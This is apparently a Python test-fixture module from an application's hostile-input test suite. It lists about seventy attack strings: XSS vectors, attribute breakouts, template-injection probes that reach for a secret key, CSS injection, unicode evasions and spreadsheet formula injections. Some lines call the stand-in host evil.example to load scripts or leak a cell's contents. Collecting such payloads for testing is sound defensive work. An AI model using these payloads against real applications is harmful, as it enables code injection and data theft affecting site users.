"""A corpus of hostile strings for the hostile-input tests (issue 6, point 4).

Each payload, if it ever ran or became markup, would leave a trace the tests look for:
an element whose id starts with ``xss``, a ``window.__xss`` value, a dialog (alert,
confirm, prompt), an evaluated template expression (:data:`EVALUATED` = 1337 * 1337), or
a spreadsheet formula. They cover classic script tags, event handlers, ``javascript:``
URLs, SVG and MathML vectors, attribute breakouts, template injection (Jinja, JS template
literals), CSS injection, and unicode tricks.

:data:`PLAIN` holds the ones without ``{`` or ``}`` (questionnaire texts treat braces as
name placeholders, so only these go into questions' wording).
"""

from __future__ import annotations

#: What a template-injection payload would print if it were evaluated.
EVALUATED = str(1337 * 1337)

PAYLOADS: tuple[str, ...] = (
    # classic script tags
    "<script>window.__xss=1;alert(1)</script>",
    "<SCRIPT>window.__xss=2</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>window.__xss=4</scr</script>ipt>",
    "</textarea><script>window.__xss=5</script>",
    "</title><script>window.__xss=6</script>",
    "<!--<script>window.__xss=7</script>-->",
    "<script>document.body.insertAdjacentHTML('beforeend','<b id=xss-8>')</script>",
    # event handlers
    "<img src=x onerror=alert(9) id=xss-9>",
    '<img src="x" onerror="window.__xss=10" id="xss-10">',
    "<body onload=alert(11)>",
    "<div id=xss-12 onmouseover=alert(12)>hover</div>",
    "<input id=xss-13 autofocus onfocus=alert(13)>",
    "<details id=xss-14 open ontoggle=alert(14)>",
    "<video id=xss-15><source onerror=alert(15)></video>",
    "<iframe id=xss-16 srcdoc='<script>parent.__xss=16</script>'></iframe>",
    "<marquee id=xss-17 onstart=alert(17)>",
    "<select id=xss-18 autofocus onfocus=alert(18)></select>",
    # javascript: and data: URLs
    "javascript:alert(19)",
    "<a id=xss-20 href=javascript:alert(20)>click</a>",
    '<a id=xss-21 href="jav&#x09;ascript:alert(21)">x</a>',
    "<iframe id=xss-22 src=javascript:alert(22)></iframe>",
    "<object id=xss-23 data=javascript:alert(23)></object>",
    "<embed id=xss-24 src=data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=>",
    "<form id=xss-25 action=javascript:alert(25)><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(26)'>",
    # SVG and MathML vectors
    "<svg id=xss-27 onload=alert(27)>",
    "<svg><script>window.__xss=28</script></svg>",
    "<svg><animate onbegin=alert(29) attributeName=x dur=1s>",
    "<svg><a id=xss-30 xlink:href=javascript:alert(30)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(31)>",
    "<math id=xss-32><maction actiontype=statusline xlink:href=javascript:alert(32)>x",
    "<svg><foreignObject><img id=xss-33 src=x onerror=alert(33)></foreignObject></svg>",
    # attribute breakouts
    '" onmouseover="alert(34)" id="xss-34',
    "' onfocus='alert(35)' autofocus id='xss-35",
    '"><script>window.__xss=36</script>',
    "'><img src=x onerror=alert(37) id=xss-37>",
    '" autofocus onfocus=alert(38) x="',
    "`><img src=x onerror=alert(39) id=xss-39>",
    '"/><svg id=xss-40 onload=alert(40)>',
    # template injection
    "{{ 1337*1337 }}",
    "{% for x in range(3) %}xss-loop{% endfor %}",
    "{{ config.SECRET_KEY }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${1337*1337}",
    "#{1337*1337}",
    "{{constructor.constructor('alert(47)')()}}",
    # CSS injection
    "<style>body{display:none}</style>",
    '<div id=xss-49 style="background:url(javascript:alert(49))">x</div>',
    "</style><style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "expression(alert(52))",
    # unicode tricks
    "\uff1cscript\uff1ewindow.__xss=53\uff1c/script\uff1e",
    "<scr\u0131pt>window.__xss=54</scr\u0131pt>",
    "\u202eu003cscript\u202d>alert(55)",
    "\u003cimg src=x onerror=alert(56) id=xss-56\u003e",
    "<img src=x id=xss-57 onerror\u200b=alert(57)>",
    "&lt;script&gt;window.__xss=58&lt;/script&gt;",
    "%3Cscript%3Ewindow.__xss=59%3C/script%3E",
    '<img src="file:///etc/passwd" id=xss-60>',
    '<img src="http://127.0.0.1:9/beacon.png" id=xss-61>',
    # spreadsheet formulas
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

#: Payloads fit for a questionnaire's wording (no braces: those are name placeholders).
PLAIN: tuple[str, ...] = tuple(p for p in PAYLOADS if "{" not in p and "}" not in p)

#: Payloads that start like a spreadsheet formula (before any whitespace is stripped).
FORMULAS: tuple[str, ...] = tuple(p for p in PAYLOADS if p[:1] in ("=", "+", "-", "@", "\t", "\r"))
